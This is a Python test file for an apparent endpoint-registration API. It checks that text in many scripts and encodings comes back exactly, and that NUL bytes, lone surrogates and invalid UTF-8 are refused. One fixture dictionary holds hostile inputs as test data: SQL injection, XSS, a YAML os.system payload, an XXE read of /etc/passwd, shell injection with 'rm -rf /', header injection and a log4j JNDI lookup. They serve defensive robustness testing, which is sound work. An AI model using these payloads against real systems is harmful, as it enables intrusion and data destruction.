"""Text of any script is returned exactly; text that PostgreSQL cannot store is refused in every field."""

import json
import re
from typing import Any

import pytest

from tests.support.given import Given, Sql
from tests.support.people import Answer, Person, field_errors, refused

TEXTS = {
    # scripts and directions
    "german": "Straße Übergröße ẞ",
    "greek": "ΑΒΓ άλφα ς σ",
    "cyrillic": "Привет, мир",
    "hebrew": "שָׁלוֹם עוֹלָם",
    "arabic": "مرحبا بالعالم",
    "persian with joiners": "می\u200cخواهم کتاب\u200cها",
    "devanagari": "नमस्ते दुनिया क्\u200dष",
    "thai": "สวัสดีชาวโลก",
    "japanese": "日本語のテスト　全角",
    "korean": "안녕하세요 세계",
    "korean in jamo": "\u1112\u1161\u11ab\u1100\u1173\u11af",
    "chinese": "你好,世界",
    "rare han": "𠀀𠜎𡃁𪚥",
    "turkish": "İıŞşĞğ",
    "vietnamese": "Tiếng Việt",
    "georgian": "გამარჯობა ᲒᲐᲛᲐᲠᲯᲝᲑᲐ",
    "cherokee": "ᏣᎳᎩ ꭰꭱ",
    "amharic": "ሰላም ለዓለም",
    "gothic": "𐌲𐌿𐍄",
    "mathematical": "𝒯𝑒𝓍𝓉 ∀x∈ℝ",
    "composed": "\u00e9",
    "decomposed": "e\u0301",
    "ligature": "ﬁ ﬀ",
    "zalgo": "Z\u0351\u036b\u0343\u036aa\u0302\u036bl\u034bg\u0306o\u0309",
    "right-to-left override": "abc\u202egnp.exe",
    "direction marks": "\u200eleft\u200fright\u2066isolate\u2069",
    "byte order mark": "\ufeffbegin",
    "noncharacters": "\ufffe\uffff\U0001fffe",
    "replacement character": "\ufffd",
    "private use": "\ue000\U000f0000",
    "highest": "\U0010ffff",
    "emoji": "😀 👩‍👩‍👧‍👦 🏳️‍🌈 👍🏽 🇺🇦 1️⃣",
    # control characters
    "controls": "\x01\x02\x07\x08\x0b\x0c\x1b[31m\x7f\x80\x9f",
    "line ends": "a\nb\r\nc\rd\u0085e\u2028f\u2029g",
    "tab": "a\tb",
    "soft hyphen": "soft\u00adhyphen",
    "zero width": "zero\u200bwidth",
    # syntax of other languages
    "sql": "'; DROP TABLE registrations; --",
    "sql comment": "1 OR 1=1 /* */ UNION SELECT * FROM users",
    "dollar quoting": "$$ BEGIN; $1 $tag$",
    "percent": "100 % %s %(name)s %n %%",
    "like wildcards": r"_%\_\%",
    "backslashes": r"C:\new\table \\ \u0041 \x00 \0",
    "quotes": "\"double\" 'single' `back` “curly” «guillemets»",
    "html": "<script>alert(1)</script><img src=x onerror=alert(1)>",
    "entities": "&lt;b&gt; &amp; &#0; &nbsp;",
    "svg": "<svg/onload=alert(1)>",
    "template": "{{7*7}} ${7*7} #{7*7} <%= 7*7 %> {0} {x.__class__}",
    "csv formula": '=cmd|" /C calc"!A0',
    "csv plus": "+1+1",
    "csv minus": "-2+3",
    "csv at": "@SUM(A1:A9)",
    "json": '{"status": "Approved"}',
    "yaml": "- !!python/object/apply:os.system ['ls']",
    "xml": '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>',
    "shell": "$(reboot) `id` ; rm -rf / | cat && true",
    "path": "../../../../etc/passwd",
    "url": "javascript:alert(1)",
    "header": "a\r\nSet-Cookie: b=c",
    "log4j": "${jndi:ldap://x.example/a}",
    "ldap": "*)(uid=*))(|(uid=*",
    # values of other types as text
    "null": "null",
    "undefined": "undefined",
    "true": "true",
    "number": "1e309",
    "nan": "NaN",
    "date": "2026-02-30",
    "uuid": "00000000-0000-0000-0000-000000000000",
    "very long": "long " * 999 + "end",
}
BIDI_CONTROLS = re.compile(r"[\u202a-\u202e\u2066-\u2069]")


@pytest.mark.parametrize("text", TEXTS.values(), ids=TEXTS.keys())
def test_any_text_is_returned_exactly_and_found(ana: Person, mia: Person, given: Given, text: str) -> None:
    name = "" if BIDI_CONTROLS.search(text) else text  # refused in names
    short = f"<{name[:198]}>"
    fields: dict[str, Any] = {
        "endpoint_name": short,
        "owner_contact": short,
        "description": text,
        "available_tools": [{"name": f"<{name[:126]}>", "description": text, text: [text, {text: text}]}],
    }
    made = given.registration(**fields)
    shown = ana.get(f"/registrations/{made['registration_id']}").json
    listed = ana.get("/registrations").json["items"][0]
    for found in (made, shown, listed):
        assert {name: found[name] for name in fields} == fields

    words = " ".join(text[:200].split()[:3])
    if words:
        found_by_text = ana.get("/registrations", search=words).json["items"]
        assert [item["registration_id"] for item in found_by_text] == [made["registration_id"]]

    reason = f"<{text[:1998]}>"
    assert mia.set_status(made, "Rejected", reason=reason).json["status_reason"] == reason
    history = mia.get(f"/registrations/{made['registration_id']}/history").json
    assert history["items"][0]["metadata"]["reason"] == reason


# ------------------------------------------------------------------------------------------- unstorable text

UNSTORABLE = {
    "nul": "\0",
    "in the middle": "a\0b",
    "high surrogate": "\ud800",
    "low": "\udc00x",
    "reversed": "\ude00\ud83d",
}
PLACES: dict[str, tuple[Any, str]] = {
    "endpoint_url": ({"endpoint_url": "https://x.example/?"}, "endpoint_url"),
    "endpoint_name": ({"endpoint_name": "?"}, "endpoint_name"),
    "description": ({"description": "?"}, "description"),
    "owner_contact": ({"owner_contact": "?"}, "owner_contact"),
    "bare tool": ({"available_tools": ["a", "?"]}, "available_tools.1"),
    "tool name": ({"available_tools": [{"name": "?"}]}, "available_tools.0.name"),
    "tool metadata": ({"available_tools": [{"name": "a", "x": {"y": [1, ["?"]]}}]}, "available_tools.0.x.y.1.0"),
    "metadata name": ({"available_tools": [{"name": "a", "x": {"?": 1}}]}, "available_tools.0.x."),
    "unknown field": ({"?": 1}, ""),
    "transport": ({"transport": "?"}, "transport"),
}


def with_character(value: Any, character: str) -> Any:
    return json.loads(json.dumps(value).replace("?", json.dumps(character)[1:-1]))


@pytest.mark.parametrize("character", UNSTORABLE.values(), ids=UNSTORABLE.keys())
@pytest.mark.parametrize(("fields", "where"), PLACES.values(), ids=PLACES.keys())
def test_unstorable_characters_are_refused_anywhere_in_a_body(
    ana: Person, given: Given, character: str, fields: Any, where: str
) -> None:
    sent = with_character(fields, character)
    made = given.registration()
    for answer in (
        ana.post("/registrations", {**given.body(), **sent}),
        ana.patch(f"/registrations/{made['registration_id']}", sent),
    ):
        assert any(name.startswith(where) for name in field_errors(answer)), answer.text
        answer.body.decode()


@pytest.mark.parametrize("character", UNSTORABLE.values(), ids=UNSTORABLE.keys())
def test_unstorable_characters_are_refused_in_other_bodies(mia: Person, given: Given, character: str) -> None:
    assert field_errors(mia.set_status(given.registration(), "Rejected", reason=character)).keys() == {"reason"}
    assert field_errors(mia.post("/users", {"display_name": character})).keys() == {"display_name"}


@pytest.mark.parametrize(
    "name", ["search", "owner", "status", "submitter_id", "sort", "limit", "cursor", "other", "%00"]
)
@pytest.mark.parametrize("value", ["%00", "a%00b"])
def test_a_nul_in_a_query_is_refused(ana: Person, name: str, value: str) -> None:
    field_errors(ana.send("GET", f"/registrations?{name}={value}"))


@pytest.mark.parametrize("raw", ["%ff", "%ed%a0%80", "%c0%80", "%e2%82", "a%fe"])
@pytest.mark.parametrize("target", ["/registrations?search={}", "/registrations?{}=1", "/registrations/{}", "/{}"])
def test_invalid_utf_8_in_a_target_is_malformed(ana: Person, raw: str, target: str) -> None:
    refused(ana.send("GET", target.format(raw)), 400, "MALFORMED_REQUEST")


@pytest.mark.parametrize("target", ["/registrations/%00", "/%00", "/users/a%00b", "/registrations%00"])
def test_a_nul_in_a_path_is_not_found(ana: Person, target: str) -> None:
    refused(ana.send("GET", target), 404, "NOT_FOUND")


def test_an_escaped_surrogate_pair_is_one_character(ana: Person, given: Given) -> None:
    raw = json.dumps(given.body(description="😀")).encode()
    assert rb"\ud83d\ude00" in raw
    answer: Answer = ana.send("POST", "/registrations", {"Content-Type": "application/json"}, raw)
    assert answer.json["description"] == "😀"
    assert "😀".encode() in answer.body


def test_texts_are_stored_without_normalisation(given: Given, sql: Sql) -> None:
    given.registration(description="e\u0301")
    assert sql("SELECT description = U&'e\\0301' FROM registrations") == [(True,)]


NUMBERS = '{"name":"exact","n":[9223372036854775807,1.0,1.50,-0,1e2,0.1234567890123456789,1e-400],"10":1,"9":2}'


def test_numbers_and_names_come_back_as_they_were_sent(ana: Person) -> None:
    def send(method: str, path: str, body: str) -> Answer:
        return ana.send(method, path, {"Content-Type": "application/json"}, body.encode())

    required = '"endpoint_url":"https://n.example.com/","endpoint_name":"N","owner_contact":"n"'
    made = send("POST", "/registrations", f'{{{required},"available_tools":[{NUMBERS}]}}')
    path = f"/registrations/{made.json['registration_id']}"
    ana.patch(path, {"description": "Another field"})
    for answer in (made, ana.get(path), ana.get("/registrations")):
        assert f'"available_tools":[{NUMBERS}]' in answer.text
    # The same numbers are no change; another form of one is a change.
    assert send("PATCH", path, f'{{"available_tools":[{NUMBERS}]}}').json["version"] == 2
    assert send("PATCH", path, f'{{"available_tools":[{NUMBERS.replace("1.50", "1.5")}]}}').json["version"] == 3
    history = ana.get(f"{path}/history").text
    assert "1.50,-0,1e2" in history
    assert "1.5,-0,1e2" in history
